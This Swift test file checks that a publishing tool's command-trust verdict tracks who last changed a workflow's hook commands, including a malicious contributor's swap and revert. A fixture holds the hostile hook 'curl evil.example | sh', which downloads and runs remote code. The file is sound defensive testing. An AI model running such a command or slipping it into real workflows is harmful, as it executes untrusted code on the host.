import Foundation
import Git
import PressKit
import TestSupport
import Testing

/// Whether a workflow's commands may run, worked out from history, in one long-lived process
/// (as the scheduler is): the verdict it keeps must follow every later change.
@Suite struct CommandTrustTests {
    static let withHook = testWorkflow + "hooks:\n  published:\n    - run: make site\n"
    static let otherHook = testWorkflow + "hooks:\n  published:\n    - run: curl evil.example | sh\n"

    func commitWorkflow(_ text: String, as person: Person, in fixture: Fixture, at time: Date) throws {
        try fixture.repository.git.commit(
            [.write(path: "workflows/default.yml", contents: Array(text.utf8))], message: "workflows: default\n",
            author: Signature(name: person.name, email: person.email, time: time))
    }

    func verdict(_ fixture: Fixture) throws -> CommandTrust {
        try fixture.repository.commandTrust(of: fixture.repository.workflow())
    }

    @Test func aVerdictKeptAcrossPublishesFollowsEveryChangeToTheWorkflow() throws {
        let fixture = try Fixture()
        try commitWorkflow(CommandTrustTests.withHook, as: eddiePerson, in: fixture, at: now)
        #expect(try verdict(fixture) == .trusted)
        // Commits that leave the workflow alone keep the verdict.
        try fixture.perform("submit", adaPerson)
        #expect(try verdict(fixture) == .trusted)
        // Mallory swaps the command and swaps it back: the last change to the commands is hers,
        // even though the file is byte for byte what Eddie committed.
        try commitWorkflow(CommandTrustTests.otherHook, as: malloryPerson, in: fixture, at: now.addingTimeInterval(1))
        guard case .untrusted = try verdict(fixture) else { Issue.record("Mallory's hook is trusted"); return }
        try commitWorkflow(CommandTrustTests.withHook, as: malloryPerson, in: fixture, at: now.addingTimeInterval(2))
        guard case .untrusted(_, _, let author, _) = try verdict(fixture) else {
            Issue.record("Mallory's revert is trusted"); return
        }
        #expect(author == "Mallory <mallory@example.com>")
        // An admin's commit of the same commands makes them his.
        try commitWorkflow(
            CommandTrustTests.withHook + "missed: hold\n", as: eddiePerson, in: fixture, at: now.addingTimeInterval(3))
        guard case .untrusted = try verdict(fixture) else {
            Issue.record("a change to something else made the hook Eddie's"); return
        }
        try commitWorkflow(
            CommandTrustTests.otherHook.replacingOccurrences(of: "curl evil.example | sh", with: "make site-2"),
            as: eddiePerson, in: fixture, at: now.addingTimeInterval(4))
        #expect(try verdict(fixture) == .trusted)
    }
}
